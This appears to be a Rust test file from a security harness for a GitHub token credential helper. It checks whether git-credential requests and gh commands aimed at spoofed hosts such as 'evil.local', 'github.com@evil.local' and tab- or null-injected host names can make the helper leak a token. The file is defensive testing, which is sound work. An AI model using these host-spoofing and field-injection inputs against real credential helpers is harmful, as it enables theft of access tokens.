//! Hosts that git and gh are told to send the token to.

use rand::rngs::StdRng;
use rand::seq::IndexedRandom as _;

use super::{Act, Attack, PROGRAM, Program, boxed};
use crate::scene::{Form, Scene};

pub fn all() -> Vec<Box<dyn Attack>> {
    let mut all =
        boxed([Program { name: "git asks for evil hosts", forms: &Form::ALL, text: GIT }]);
    all.extend(boxed([Act { name: "gh talks to an evil host", forms: &Form::ALL, run: gh }]));
    all
}

/// What a remote, a redirect or a submodule of a repository can make git ask its helper for.
const GIT: &str = r#"
hosts = [
    "evil.local", "evil.ghe.com", "github.com.evil.local", "github.com@evil.local", "evil.local:443",
    "evil.local/github.com", "github.com%00.evil.local", "GITHUB.COM.", "gíthub.com", "", "com",
    "github.com:8443", "api.github.com.evil.local", "127.0.0.1", "[::1]", "github.com\thost=evil.local",
]
requests = [f"protocol=https\nhost={host}\n\n" for host in hosts] + [
    "protocol=http\nhost=github.com\n\n",
    "protocol=ssh\nhost=github.com\n\n",
    "protocol=https\nhost=github.com\nhost=evil.local\n\n",
    "url=https://evil.local/o/r\n\n",
    "url=https://github.com@evil.local/o/r\n\n",
    "protocol=https\nhost=github.com\nprotocol=http\n\n",
]
asked = 0
while going() or asked == 0:
    request = random.choice(requests)
    told = subprocess.run(
        [PROGRAM, "git-credential", "--mountpoint", MOUNT, "get"],
        input=request.encode(), capture_output=True, timeout=20,
        env={"PATH": "/usr/bin:/bin", "GH_TOKEN_FILE": MOUNT + "/token", "HOME": os.environ["PLACE"],
             "MOLECULE_TOKENFS_MOUNTPOINT": MOUNT},
    )
    asked += 1
    if b"ghs_" in told.stdout:
        harm(f"git got a token for {request!r}")
        break
done(asked)
"#;

/// Ways to name a host to gh; `HOST` stands for it.
const WAYS: &[(&str, &[&str])] = &[
    ("", &["api", "--hostname", "HOST", "user"]),
    ("", &["api", "https://HOST/o/r"]),
    ("", &["repo", "view", "https://HOST/o/r"]),
    ("", &["repo", "view", "HOST/o/r"]),
    ("", &["pr", "list", "-R", "HOST/o/r"]),
    ("", &["auth", "status", "--hostname", "HOST"]),
    ("", &["release", "list", "-R", "https://HOST/o/r"]),
    ("GH_HOST=HOST", &["api", "user"]),
    ("GH_REPO=HOST/o/r", &["pr", "list"]),
];

/// Through the shim, for the Enterprise server that the tokens are for.
fn gh(scene: &Scene<'_>, random: &mut StdRng) -> Result<(), String> {
    let before = scene.world.tokens_at_evil_hosts();
    let bin = scene.dir().folder("bin");
    let program = scene.world.program.to_str().unwrap();
    if !bin.join("gh").exists() {
        let mut setup = scene.enter(&[program, "setup", "gh", "--dir", bin.to_str().unwrap()]);
        setup
            .env("HOME", scene.dir().path())
            .env("GH_TOKEN_FILE", scene.mountpoint().join("token"));
        scene.run(setup, PROGRAM).ok();
    }
    let host = ["evil.local", "evil.ghe.com"].choose(random).unwrap();
    for (variable, words) in WAYS.choose_multiple(random, scene.many(20).max(2)) {
        let words: Vec<String> = words.iter().map(|word| word.replace("HOST", host)).collect();
        let line = format!(
            "import re\nenv = {{'PATH': '{bin}:/usr/bin:/bin', 'HOME': PLACE, 'GH_TOKEN_FILE': MOUNT + '/token',\n\
             'MOLECULE_REAL_GH': '/usr/bin/gh', 'SSL_CERT_FILE': os.environ['CERTIFICATES'],\n\
             'GH_PROMPT_DISABLED': '1', 'GH_NO_UPDATE_NOTIFIER': '1'}}\n\
             name, _, value = '{variable}'.partition('=')\n\
             env.update({{name: value}} if name else {{}})\n\
             told = subprocess.run(['{bin}/gh'] + {words:?}, env=env, capture_output=True, timeout=30)\n\
             done(told.returncode, told.stderr[-300:])\n",
            bin = bin.display(),
            variable = variable.replace("HOST", host),
        );
        scene.agent.run(&line, &scene.variables(random), PROGRAM)?;
    }
    let evil = scene.world.tokens_at_evil_hosts();
    if evil == before { Ok(()) } else { Err(format!("{evil} tokens came to evil hosts")) }
}
